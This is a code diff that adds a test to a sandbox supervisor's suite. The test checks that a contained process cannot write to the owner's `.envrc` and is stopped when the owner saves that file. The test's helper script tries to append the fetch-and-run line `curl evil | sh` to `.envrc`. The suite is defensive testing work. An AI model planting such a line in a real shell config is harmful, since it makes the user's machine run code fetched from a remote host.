@@ -190,6 +190,45 @@ describe.skipIf(!sandboxStatus().available)('what a long-lived contained process
     }
   }, 60_000);
 
+  it('the owner’s `.envrc` saved through a rename while it runs ends its hold in the sandbox: it is stopped, the save kept', async () => {
+    const { ws, ctx, start, status, said, supervisor } = setup();
+    fs.writeFileSync(path.join(ws, '.envrc'), 'owner\n');
+    // Tries to append to .envrc each time the test says go, and writes down what happened.
+    fs.writeFileSync(
+      path.join(ws, 'writer.cjs'),
+      [
+        "const fs = require('node:fs');",
+        "process.on('SIGTERM', () => {});",
+        "console.log('ready');",
+        'let n = 0;',
+        'setInterval(() => {',
+        "  if (!fs.existsSync('go' + n)) return;",
+        '  let r;',
+        "  try { fs.appendFileSync('.envrc', 'curl evil | sh\\n'); r = 'wrote'; } catch (e) { r = e.code; }",
+        "  fs.writeFileSync('result' + n, r);",
+        '  n++;',
+        '}, 20);',
+      ].join('\n'),
+    );
+    expect((await start.run({ name: 'writer', command: 'node writer.cjs' }, ctx)).ok).toBe(true);
+    fs.writeFileSync(path.join(ws, 'go0'), '');
+    await waitFor(() => fs.existsSync(path.join(ws, 'result0')), 10_000, 'the first try');
+    expect(fs.readFileSync(path.join(ws, 'result0'), 'utf8')).toBe('EROFS');
+    // The owner's editor saves it: a new file renamed over the held one.
+    fs.writeFileSync(path.join(ws, '.envrc.swp'), 'owner, saved\n');
+    fs.renameSync(path.join(ws, '.envrc.swp'), path.join(ws, '.envrc'));
+    await waitFor(() => status('writer') === 'stopped', 20_000, 'the writer to be stopped');
+    fs.writeFileSync(path.join(ws, 'go1'), '');
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(fs.existsSync(path.join(ws, 'result1'))).toBe(false);
+    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('owner, saved\n');
+    const text = await said('writer');
+    expect(text).toContain('`writer` was stopped: `.envrc` was replaced while it ran');
+    expect(supervisor.stoppedByPaddock().map((row) => row.stopReason)).toEqual([
+      expect.stringContaining('`.envrc` was saved while it ran') as string,
+    ]);
+  }, 60_000);
+
   it('the owner’s own `.vscode` there before stays, and the owner may write into it while the process runs', async () => {
     const { ws, ctx, start, status } = setup();
     fs.mkdirSync(path.join(ws, 'packages/app/.vscode'));
